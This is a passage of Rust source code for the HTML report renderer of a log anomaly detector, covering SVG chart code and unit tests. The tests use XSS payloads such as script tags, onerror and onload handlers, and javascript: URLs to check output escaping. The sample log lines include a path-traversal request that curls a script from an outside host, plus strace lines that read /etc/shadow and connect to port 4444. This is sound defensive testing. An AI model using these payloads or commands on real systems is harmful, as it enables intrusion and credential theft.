        write!(s, "<g fill=\"{BASELINE}\">")?;
        for (x, y) in points.iter().step_by(step) {
            write!(
                s,
                "<circle class=\"pt\" cx=\"{}\" cy=\"{}\" r=\"3\"><title>false alarms {}, detected {}</title></circle>",
                N(sx(*x)),
                N(sy(*y)),
                percent(*x),
                percent(*y)
            )?;
        }
        s.push_str("</g>");
    }
    write!(
        s,
        "<text x=\"{}\" y=\"{}\" text-anchor=\"end\" font-weight=\"600\">",
        N(ML + P - 10.0),
        N(MT + P - 12.0)
    )?;
    push_escaped(&mut s, &format!("AUC {auc}"));
    s.push_str("</text></svg>");
    Ok(s)
}

fn histogram_svg(eval: &EvalPlots) -> Result<String, fmt::Error> {
    const BINS: usize = 20;
    const W: f64 = 640.0;
    const H: f64 = 330.0;
    const ML: f64 = 56.0;
    const MR: f64 = 16.0;
    const MT: f64 = 40.0;
    const MB: f64 = 50.0;
    let (pw, ph) = (W - ML - MR, H - MT - MB);
    let scores = eval.normal_scores.iter().chain(&eval.attack_scores).copied();
    let (mut lo, mut hi) = bounds(scores.chain(std::iter::once(eval.threshold))).unwrap_or((0.0, 1.0));
    let wide = (hi - lo).is_finite() && hi - lo > 1e-9;
    if lo >= 0.0 && hi <= 1.0 {
        // Scores as honk makes them: bins of 0.05.
        (lo, hi) = (0.0, 1.0);
    } else if !wide {
        (lo, hi) = (lo - 0.5, lo + 0.5);
    }
    let span = hi - lo;
    let count = |scores: &[f64]| {
        let mut bins = [0u64; BINS];
        for &v in scores.iter().filter(|v| v.is_finite()) {
            let i = (((v - lo) / span) * BINS as f64).floor();
            bins[(i.max(0.0) as usize).min(BINS - 1)] += 1;
        }
        let n = bins.iter().sum::<u64>().max(1) as f64;
        (bins, n)
    };
    let (normal, n_normal) = count(&eval.normal_scores);
    let (attack, n_attack) = count(&eval.attack_scores);
    let top = normal
        .iter()
        .map(|&c| c as f64 / n_normal)
        .chain(attack.iter().map(|&c| c as f64 / n_attack))
        .fold(0.0, f64::max);
    // A round top, in ticks of a round step.
    let step = [0.01, 0.02, 0.025, 0.05, 0.1, 0.2, 0.25]
        .into_iter()
        .find(|step| top <= 4.0 * step)
        .unwrap_or(0.25);
    let ticks = ((top / step).ceil().max(1.0) as u32).min(4);
    let top = step * f64::from(ticks);
    let sx = |v: f64| ML + (v - lo) / span * pw;
    let sy = |share: f64| MT + ph - share / top * ph;

    let mut s = String::with_capacity(8192);
    open_svg(
        &mut s,
        "scores",
        W,
        H,
        "Score distributions of normal and attack items",
        &format!(
            "Histogram in {BINS} bins of scores from {} to {}: normal items as solid blue bars, attack items as \
             hatched vermillion bars beside them, each as a share of its own group. A dashed line marks the \
             threshold {}.",
            score_text(lo),
            score_text(hi),
            threshold_text(eval.threshold)
        ),
    )?;
    write!(
        s,
        "<defs><pattern id=\"hatch-attack\" width=\"6\" height=\"6\" patternUnits=\"userSpaceOnUse\" \
         patternTransform=\"rotate(45)\"><rect width=\"6\" height=\"6\" fill=\"{ANOMALY}\"/><path d=\"M0,0V6\" \
         stroke=\"#000\" stroke-width=\"1.5\" stroke-opacity=\"0.45\"/></pattern></defs>"
    )?;
    for i in 0..=ticks {
        let share = step * f64::from(i);
        write!(
            s,
            "<path class=\"grid\" d=\"M{},{}H{}\"/>",
            N(ML),
            N(sy(share)),
            N(ML + pw)
        )?;
        let digits = usize::from(step < 0.05 && (step * 100.0).fract() != 0.0);
        text(
            &mut s,
            ML - 6.0,
            sy(share) + 4.0,
            "end",
            &format!("{:.digits$}%", share * 100.0),
        )?;
    }
    for i in 0..=4 {
        let v = lo + span * f64::from(i) / 4.0;
        text(&mut s, sx(v), MT + ph + 16.0, "middle", &format!("{v:.2}"))?;
    }
    let bw = pw / BINS as f64;
    for (group, bins, n, fill, offset) in [
        ("normal", &normal, n_normal, BASELINE.to_owned(), 0.08),
        ("attack", &attack, n_attack, "url(#hatch-attack)".to_owned(), 0.5),
    ] {
        write!(s, "<g fill=\"{fill}\">")?;
        for (i, &c) in bins.iter().enumerate().filter(|(_, &c)| c > 0) {
            let share = c as f64 / n;
            let x = ML + i as f64 * bw + bw * offset;
            write!(
                s,
                "<rect class=\"pt\" x=\"{}\" y=\"{}\" width=\"{}\" height=\"{}\"><title>{group} items \
                 scoring {:.2}–{:.2}: \
                 {} ({})</title></rect>",
                N(x),
                N(sy(share)),
                N(bw * 0.42),
                N(MT + ph - sy(share)),
                lo + span * i as f64 / BINS as f64,
                lo + span * (i + 1) as f64 / BINS as f64,
                thousands(c),
                percent(share)
            )?;
        }
        s.push_str("</g>");
    }
    write!(
        s,
        "<path class=\"axis\" d=\"M{},{}V{}H{}\"/>",
        N(ML),
        N(MT),
        N(MT + ph),
        N(ML + pw)
    )?;
    if eval.threshold.is_finite() {
        let x = sx(eval.threshold);
        write!(
            s,
            "<path d=\"M{},{}V{}\" stroke=\"#222\" stroke-width=\"1.5\" stroke-dasharray=\"6 4\" \
             pointer-events=\"none\"/>",
            N(x),
            N(MT - 4.0),
            N(MT + ph)
        )?;
        let anchor = if x > ML + pw * 0.8 { "end" } else { "start" };
        let dx = if anchor == "end" { -4.0 } else { 4.0 };
        text(
            &mut s,
            x + dx,
            MT + 8.0,
            anchor,
            &format!("threshold {}", threshold_text(eval.threshold)),
        )?;
    }
    text(&mut s, ML + pw / 2.0, H - 8.0, "middle", "score")?;
    write!(s, "<g transform=\"translate(14,{}) rotate(-90)\">", N(MT + ph / 2.0))?;
    text(&mut s, 0.0, 0.0, "middle", "share of items")?;
    s.push_str("</g>");
    write!(
        s,
        "<g aria-hidden=\"true\"><rect x=\"{}\" y=\"12\" width=\"12\" height=\"12\" fill=\"{BASELINE}\"/>",
        N(ML)
    )?;
    text(
        &mut s,
        ML + 18.0,
        22.0,
        "start",
        &format!("normal ({})", thousands(eval.normal_scores.len() as u64)),
    )?;
    write!(
        s,
        "<rect x=\"{}\" y=\"12\" width=\"12\" height=\"12\" fill=\"url(#hatch-attack)\"/>",
        N(ML + 180.0)
    )?;
    text(
        &mut s,
        ML + 198.0,
        22.0,
        "start",
        &format!("attack ({})", thousands(eval.attack_scores.len() as u64)),
    )?;
    s.push_str("</g></svg>");
    Ok(s)
}

#[cfg(test)]
mod tests {
    use super::*;

    const HOSTILE: [&str; 8] = [
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "</script>",
        "]]>",
        "<!--",
        "-->",
        "</textarea><svg onload=alert(1)>",
        "nul\0 esc\x1b[31m rlo\u{202e} http://evil.example/x https://evil.example/y javascript:alert(1)",
    ];

    fn hostile() -> String {
        HOSTILE.join(" ")
    }

    /// A small deterministic generator, for points that look scattered.
    struct Lcg(u64);

    impl Lcg {
        fn next(&mut self) -> f64 {
            self.0 = self
                .0
                .wrapping_mul(6364136223846793005)
                .wrapping_add(1442695040888963407);
            (self.0 >> 11) as f64 / (1u64 << 53) as f64
        }
    }

    /// A page with every section filled, `anomalies` anomalies, `points` map
    /// points a side and `bins` timeline bins; text is partly hostile.
    fn sample(anomalies: usize, points: usize, bins: usize) -> Page {
        let mut rng = Lcg(7);
        let lines = [
            "Accepted publickey for deploy from 10.0.0.5 port 52144 ssh2",
            "pam_unix(sshd:session): session opened for user deploy(uid=1000) by (uid=0)",
            "Received disconnect from 10.0.0.5 port 52144:11: disconnected by user",
            "Connection closed by 10.0.0.5 port 52144 [preauth]",
        ];
        let odd = [
            "Invalid user admin from 203.0.113.9 port 40022",
            "error: maximum authentication attempts exceeded for root from 203.0.113.9 port 40022 ssh2 [preauth]",
            "GET /cgi-bin/../../bin/sh?c=curl%20http://203.0.113.9/x.sh HTTP/1.1",
        ];
        let mut list = Vec::new();
        for i in 0..anomalies {
            let score = 0.95 - 0.6 * rng.next();
            let line = 100 + 37 * i as u64;
            let window = i % 7 == 3;
            let text = if window {
                format!(
                    "{line}\topenat(AT_FDCWD, \"/etc/shadow\", O_RDONLY) = 3\n\
                     {}\tread(3, \"root:x:0:0\", 4096) = 1024\n\
                     {}\tconnect(4, {{sa_family=AF_INET, sin_port=htons(4444)}}, 16) = 0",
                    line + 1,
                    line + 2
                )
            } else if i % 5 == 1 {
                hostile()
            } else {
                odd[i % odd.len()].to_owned()
            };
            list.push(PageAnomaly {
                order: i as u64,
                source: if i % 2 == 0 {
                    "target/auth.log"
                } else {
                    "target/web-01.log"
                }
                .to_owned(),
                line,
                score,
                text,
                process: Some(if i % 3 == 0 { "sshd[812]" } else { "nginx[77]" }.to_owned()),
                before: if window {
                    Vec::new()
                } else {
                    vec![
                        (line - 2, lines[i % 4].to_owned()),
                        (line - 1, lines[(i + 1) % 4].to_owned()),
                    ]
                },
                after: if window {
                    Vec::new()
                } else {
                    vec![(line + 1, lines[(i + 2) % 4].to_owned())]
                },
                nearest: Some((
                    "baseline/auth.log".to_owned(),
                    4_812 + i as u64,
                    lines[(i + 3) % 4].to_owned(),
                )),
                window_last_line: window.then_some(line + 2),
                incident: Some(((i / 3) as u64 + 1, (i % 3) as u32 + 1)),
            });
        }
        let incidents: Vec<PageIncident> = (0..anomalies.div_ceil(3))
            .map(|k| PageIncident {
                id: k as u64 + 1,
                source: "target/auth.log".into(),
                line: 100 + 111 * k as u64,
                last_line: 174 + 111 * k as u64,
                records: 3,
                score: 0.9,
                threads: vec![812, 77],
                new: vec!["/etc/shadow".into(), hostile()],
            })
            .collect();
        list.sort_by(|a, b| b.score.total_cmp(&a.score));
        let cloud = |rng: &mut Lcg, n: usize, dx: f64, anomalous: bool| -> Vec<MapPoint> {
            (0..n)
                .map(|i| {
                    let r = rng.next().sqrt() * 2.0;
                    let t = rng.next() * std::f64::consts::TAU;
                    let anomaly = anomalous && i % 40 == 0;
                    let far = if anomaly { 3.0 } else { 0.0 };
                    MapPoint {
                        x: dx + far + r * t.cos(),
                        y: 0.6 * r * t.sin() - far / 2.0,
                        label: if i % 50 == 7 {
                            hostile()
                        } else {
                            lines[i % 4].to_owned()
                        },
                        score: if anomaly { 0.8 } else { 0.1 * rng.next() },
                        anomaly,
                    }
                })
                .collect()
        };
        let map = Map {
            baseline: cloud(&mut rng, points, 0.0, false),
            target: cloud(&mut rng, points, 0.7, true),
            explained: [0.41, 0.17],
            baseline_total: points as u64 * 5,
            target_total: points as u64 * 3,
        };
        let timeline = |rng: &mut Lcg, source: &str| Timeline {
            source: source.to_owned(),
            bins: (0..bins as u64)
                .map(|i| {
                    let hot = i % 17 == 5;
                    TimelineBin {
                        first_line: 1 + i * 50,
                        last_line: 50 + i * 50,
                        max_score: if hot {
                            0.5 + 0.45 * rng.next()
                        } else {
                            0.25 * rng.next()
                        },
                        records: 50,
                        anomalies: u64::from(hot) * 2,
                    }
                })
                .collect(),
        };
        let normal: Vec<f64> = (0..400).map(|_| 0.35 * rng.next()).collect();
        let attack: Vec<f64> = (0..120).map(|_| 0.2 + 0.75 * rng.next()).collect();
        let mut roc: Vec<(f64, f64)> = (0..=50)
            .map(|i| {
                let f = f64::from(i) / 50.0;
                (f, 1.0 - (1.0 - f).powi(6))
            })
            .collect();
        roc.insert(0, (0.0, 0.0));
        Page {
            title: "honk diff".into(),
            version: "0.1.0".into(),
            generated: "2025-01-31 12:00:00 UTC".into(),
            summary: vec![
                ("threshold".into(), "0.3".into()),
                ("k".into(), "5".into()),
                ("baseline records".into(), "1,204,551".into()),
                ("target records".into(), "88,120".into()),
                ("anomalies".into(), format!("{}", anomalies * 2)),
            ],
            inputs: vec![
                PageInput {
                    name: "baseline/auth.log".into(),
                    format: "syslog".into(),
                    lines: 1_204_551,
                    records: 1_204_551,
                },
                PageInput {
                    name: "target/auth.log".into(),
                    format: "syslog".into(),
                    lines: 60_000,
                    records: 59_998,
                },
                PageInput {
                    name: "target/web-01.log".into(),
                    format: "nginx".into(),
                    lines: 28_122,
                    records: 28_122,
                },
            ],
            anomalies: list,
            anomalies_total: anomalies as u64 * 2,
            incidents_total: incidents.len() as u64,
            incidents,
            threshold: 0.3,
            map: Some(map),
            timelines: vec![
                timeline(&mut rng, "target/auth.log"),
                timeline(&mut rng, "target/web-01.log"),
            ],
            threads: vec![
                PageThread {
                    source: "target/app.strace".into(),
                    thread: 4412,
                    records: 12_004,
                    anomalies: 17,
                },
                PageThread {
                    source: "target/app.strace".into(),
                    thread: 4419,
                    records: 881,
                    anomalies: 2,
                },
            ],
            new_syscalls: vec![("ptrace".into(), 3), ("memfd_create".into(), 1)],
            eval: Some(EvalPlots {
                auc: 0.912,
                roc,
                normal_scores: normal,
                attack_scores: attack,
                threshold: 0.3,
            }),
        }
    }

    fn ids(html: &str) -> Vec<&str> {
        html.split(" id=\"")
            .skip(1)
            .filter_map(|rest| rest.split('"').next())
            .collect()
    }

    /// Values of numeric SVG attributes hold only numbers and path commands.
    fn assert_numeric_attributes(html: &str) {
        for attr in [
            " x=\"",
            " y=\"",
            " cx=\"",
            " cy=\"",
            " r=\"",
            " width=\"",
            " height=\"",
            " d=\"",
            " points=\"",
        ] {
            for rest in html.split(attr).skip(1) {
                let value = rest.split('"').next().unwrap_or("");
                assert!(
                    !value.is_empty() && value.chars().all(|c| c.is_ascii_digit() || " .,-MLHVhlvz".contains(c)),
                    "bad value {attr}{value}\""
                );
            }
        }
    }

    #[test]
    fn hostile_text_is_escaped_everywhere() {
        let mut page = sample(40, 200, 50);
        // Hostile text in every text field the page has.
        let h = hostile();
        page.title = h.clone();
        page.version = h.clone();
        page.generated = h.clone();
        page.summary.push((h.clone(), h.clone()));
        page.inputs[0].name = h.clone();
        page.inputs[0].format = h.clone();
        for a in &mut page.anomalies {
            a.source = h.clone();
            a.process = Some(h.clone());
            a.text = h.clone();
            a.before.push((1, h.clone()));
            a.after.push((2, h.clone()));
            a.nearest = Some((h.clone(), 3, h.clone()));
        }
        if let Some(map) = &mut page.map {
            map.target[0].label = h.clone();
            map.baseline[0].label = h.clone();
        }
        page.timelines[0].source = h.clone();
        page.threads[0].source = h.clone();
        page.new_syscalls.push((h.clone(), 1));
        let html = render(&page).unwrap();
        assert!(!html.contains("<script>alert"));
        assert!(!html.contains("<img"));
        assert!(!html.contains("<svg onload"));
        assert!(!html.contains("</textarea"));
        assert!(!html.contains("]]>"));
        assert!(!html.contains("<!--"));
        assert!(!html.contains("-->"));
        assert!(!html.contains('\0'));
        assert!(!html.contains('\x1b'));
        assert!(!html.contains('\u{202e}'));
        assert_eq!(html.matches("<script").count(), 1, "only the page's own script");
        assert_eq!(html.matches("</script").count(), 1);
        assert!(html.contains("&lt;script&gt;alert(1)&lt;&#x2f;script&gt;"));
        assert!(html.contains("nul\\x00 esc\\x1b[31m rlo\\u{202e}"));
        assert_numeric_attributes(&html);
    }

    #[test]
    fn the_page_holds_no_url() {
        let html = render(&sample(50, 100, 20)).unwrap();
        let lower = html.to_ascii_lowercase();
        assert!(!lower.contains("http://") && !lower.contains("https://"));
        assert!(!lower.contains("://"), "not even file:// or a scheme the text carried");
        assert!(!lower.contains("xmlns"));
        assert!(!TEMPLATE.contains("://"), "the template's own text has no URL");
        // The URLs the log lines carried are still readable.
        assert!(html.contains("http:&#x2f;&#x2f;evil.example"));
    }

    #[test]
    fn every_required_id_is_there_with_and_without_the_optional_sections() {
        let full = render(&sample(10, 50, 10)).unwrap();
        for id in [
            "summary",
            "incidents",
            "anomalies",
            "map",
            "timeline",
            "roc",
            "anomaly-controls",
            "threads",
            "new-syscalls",
        ] {
            assert!(ids(&full).contains(&id), "{id} missing from the full page");
        }
        let mut bare = sample(0, 0, 0);
        bare.map = None;
        bare.eval = None;
        bare.timelines.clear();
        bare.threads.clear();
        bare.new_syscalls.clear();
        bare.anomalies_total = 0;
        bare.incidents.clear();
        let html = render(&bare).unwrap();
        let found = ids(&html);
        for id in ["summary", "incidents", "anomalies", "map", "timeline"] {
            assert!(found.contains(&id), "{id} missing from the bare page");
        }
        assert!(!found.contains(&"roc"));
        assert!(html.contains("No record scored above 0.30"));
        assert!(html.contains("No incident"));
        // The page leads with the map, the timeline and the incidents, then lists every anomaly.
        let at = |id: &str| full.find(&format!(" id=\"{id}\"")).unwrap_or(usize::MAX);
        assert!(at("map") < at("timeline") && at("timeline") < at("incidents") && at("incidents") < at("anomalies"));
        assert!(
            full.contains("incident 1: 3 records, threads 812 77; new: "),
            "an incident's summary line"
        );
        assert!(html.contains("No map"));
        assert!(html.contains("No timeline"));
        let mut unique = found.clone();
        unique.sort_unstable();
        unique.dedup();
        assert_eq!(unique.len(), found.len(), "ids are unique");
        let full_ids = ids(&full);
        let mut unique = full_ids.clone();
        unique.sort_unstable();
        unique.dedup();
        assert_eq!(unique.len(), full_ids.len(), "ids are unique");
    }

    #[test]
    fn an_empty_page_renders() {
        let html = render(&Page::default()).unwrap();
        assert!(html.starts_with("<!DOCTYPE html>"));
        assert!(html.trim_end().ends_with("</html>"));
        assert!(html.contains("<title>honk report: report</title>"));
        for id in ["summary", "anomalies", "map", "timeline"] {
            assert!(ids(&html).contains(&id), "{id}");
        }
        assert_numeric_attributes(&html);
    }

    #[test]
    fn numbers_are_formatted_and_non_finite_ones_do_not_break_the_plots() {
        let mut page = sample(5, 20, 10);
        page.threshold = f64::NAN;
        page.anomalies[0].score = f64::NAN;
        page.anomalies[1].score = f64::INFINITY;
        if let Some(map) = &mut page.map {
            map.baseline[0].x = f64::NAN;
            map.target[0].y = f64::INFINITY;
            map.target[1].score = f64::NEG_INFINITY;
            map.explained = [f64::NAN, f64::INFINITY];
        }
        page.timelines[0].bins[0].max_score = f64::NAN;
        page.timelines[0].bins[1].max_score = f64::INFINITY;
        page.timelines[0].bins[2].max_score = -3.0;
        if let Some(eval) = &mut page.eval {
            eval.auc = f64::NAN;
            eval.roc.push((f64::NAN, 0.5));
            eval.normal_scores.push(f64::NAN);
            eval.attack_scores.push(f64::INFINITY);
            eval.threshold = f64::NEG_INFINITY;
        }
        let html = render(&page).unwrap();
        let markup = html.split("<script").next().unwrap_or("");
        assert!(!markup.contains("NaN"));
        assert!(!markup.contains("inf"), "no inf, -inf or infinity");
        assert_numeric_attributes(&html);
        assert!(html.contains("data-score=\"0.0000\""));
        assert!(html.contains(">1,204,551<"), "counts get thousands separators");
        assert!(
            html.contains(">component 1</text>"),
            "no share of variance when it is unknown"
        );
        assert!(render(&sample(1, 5, 1))
            .unwrap()
            .contains(">component 1 (41% of the baseline&#x27;s variance)<"));

        // Every point at the same place, or no scores at all, still draws.
        let mut flat = sample(1, 5, 1);
        if let Some(map) = &mut flat.map {
            for p in map.baseline.iter_mut().chain(map.target.iter_mut()) {
                (p.x, p.y) = (1.0, 1.0);
            }
        }
        if let Some(eval) = &mut flat.eval {
            eval.normal_scores = vec![0.5; 3];
            eval.attack_scores.clear();
            eval.roc.clear();
        }
        assert_numeric_attributes(&render(&flat).unwrap());
    }

    #[test]
    fn thresholds_keep_their_digits_and_counts_get_separators() {
        assert_eq!(threshold_text(0.3), "0.30");
        assert_eq!(threshold_text(0.325), "0.325");
        assert_eq!(threshold_text(f64::NAN), "0.00");
        assert_eq!(thousands(0), "0");
        assert_eq!(thousands(999), "999");
        assert_eq!(thousands(1_000), "1,000");
        assert_eq!(thousands(1_204_551), "1,204,551");
        assert_eq!(N(-0.01).to_string(), "0.0");
        assert_eq!(N(f64::INFINITY).to_string(), "0.0");
    }

    #[test]
    fn long_text_is_cut_in_the_list_and_shorter_on_hover() {
        let mut page = sample(1, 1, 1);
        let long = "x".repeat(TEXT_CHARS * 3);
        page.anomalies[0].text = long.clone();
        if let Some(map) = &mut page.map {
            map.target[0].label = "y".repeat(HOVER_CHARS * 10);
        }
        let html = render(&page).unwrap();
        assert!(html.contains(&format!("{}…<", "x".repeat(TEXT_CHARS))));
        assert!(!html.contains(&"x".repeat(TEXT_CHARS + 1)));
        assert!(html.contains(&format!("{}…<", "y".repeat(HOVER_CHARS))));
        assert!(!html.contains(&"y".repeat(HOVER_CHARS + 1)));
    }

    #[test]
    fn the_list_is_highest_score_first_and_carries_the_file_order() {
        let mut page = sample(3, 1, 1);
        for (i, (score, order)) in [(0.4, 0), (0.9, 2), (0.6, 1)].into_iter().enumerate() {
            page.anomalies[i].score = score;
            page.anomalies[i].order = order;
        }
        page.anomalies_total = 10;
        let html = render(&page).unwrap();
        let scores: Vec<&str> = html
            .split("data-score=\"")
            .skip(1)
            .filter_map(|r| r.split('"').next())
            .collect();
        assert_eq!(scores, ["0.9000", "0.6000", "0.4000"]);
        assert!(html.contains("data-score=\"0.9000\" data-rank=\"0\" data-order=\"2\""));
        assert!(html.contains("3 of 3 anomalies shown"));
        assert!(html.contains("The list is capped: it holds the 3 highest-scoring of 10 anomalies."));
    }

    #[test]
    fn a_big_page_renders_fast_and_stays_small() {
        let page = sample(MAX_ANOMALIES, 2_000, 2_000);
        let start = std::time::Instant::now();
        let html = render(&page).unwrap();
        let elapsed = start.elapsed();
        println!(
            "big page: {} anomalies, {} map points, {} timeline bins x {}: {} bytes in {:?}",
            page.anomalies.len(),
            4_000,
            2_000,
            page.timelines.len(),
            html.len(),
            elapsed
        );
        assert!(html.len() < 20_000_000);
        assert_eq!(html.matches("<li class=\"anomaly\"").count(), MAX_ANOMALIES);
    }

    /// Writes a sample report for looking at in a browser:
    /// `cargo test --release html::tests::write_sample_report -- --ignored`.
    #[test]
    #[ignore]
    fn write_sample_report() {
        for (name, page) in [
            ("sample-report.html", sample(60, 600, 300)),
            ("sample-report-short.html", sample(3, 600, 300)),
            ("sample-report-big.html", sample(MAX_ANOMALIES, 2_000, 2_000)),
            ("sample-report-empty.html", Page::default()),
        ] {
            let path = std::env::temp_dir().join(name);
            std::fs::write(&path, render(&page).unwrap()).unwrap();
            println!("wrote {}", path.display());
        }
    }
}
